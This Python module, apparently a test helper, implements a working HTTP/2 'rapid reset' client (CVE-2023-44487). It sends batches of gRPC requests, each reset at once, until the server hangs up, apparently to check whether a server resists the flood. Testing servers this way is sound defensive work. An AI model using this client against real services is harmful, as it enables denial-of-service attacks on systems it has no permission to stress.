"""A client of HTTP/2 that begins calls and resets each at once (rapid reset, CVE-2023-44487), written out in frames."""

from __future__ import annotations

import socket
import struct
import threading
from contextlib import suppress

from tests.support.http2_pings import ACK, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PING, PREFACE, SETTINGS

RST_STREAM = 3
CANCEL = struct.pack(">I", 8)
BATCH = 100
SECONDS = 30.0


class ResettingClient:
    """A connection. It answers what it must, and discards the rest."""

    def __init__(self, address: str) -> None:
        host, _, port = address.rpartition(":")
        self._socket = socket.create_connection((host, int(port)), timeout=SECONDS)
        self._socket.sendall(PREFACE + _frame(SETTINGS))
        self._next_stream = 1
        self.has_ended = threading.Event()
        self._reader = threading.Thread(target=self._read, daemon=True)
        self._reader.start()

    def reset(self, method: str, message: bytes, count: int) -> int:
        """Begin `count` calls with a whole request each, and reset each; return how many before the server hung up."""
        # Literal fields that are never indexed, without Huffman coding (RFC 7541, 6.2.3).
        fields = {
            ":method": "POST",
            ":scheme": "http",
            ":path": f"/{method}",
            ":authority": "localhost",
            "te": "trailers",
            "content-type": "application/grpc",
        }
        block = b"".join(b"\x10" + _text(name) + _text(value) for name, value in fields.items())
        body = b"\0" + len(message).to_bytes(4) + message
        sent = 0
        while sent < count and not self.has_ended.is_set():
            frames = b""
            for _ in range(BATCH):
                stream, self._next_stream = self._next_stream, self._next_stream + 2
                frames += _frame(HEADERS, END_HEADERS, stream, block)
                frames += _frame(DATA, END_STREAM, stream, body) + _frame(RST_STREAM, 0, stream, CANCEL)
            try:
                self._socket.sendall(frames)
            except OSError:
                break
            sent += BATCH
        return sent

    def close(self) -> None:
        """Hang up."""
        with suppress(OSError):
            self._socket.shutdown(socket.SHUT_RDWR)
        self._reader.join(SECONDS)
        self._socket.close()

    def _read(self) -> None:
        file = self._socket.makefile("rb")
        with suppress(OSError):
            while head := file.read(9):
                payload = file.read(int.from_bytes(head[:3]))
                if head[3] in (SETTINGS, PING) and not head[4] & ACK:
                    self._socket.sendall(_frame(head[3], ACK, payload=payload if head[3] == PING else b""))
                elif head[3] == GOAWAY:
                    break
        self.has_ended.set()


def _text(text: str) -> bytes:
    return bytes([len(text)]) + text.encode()


def _frame(kind: int, flags: int = 0, stream: int = 0, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3) + struct.pack(">BBI", kind, flags, stream) + payload
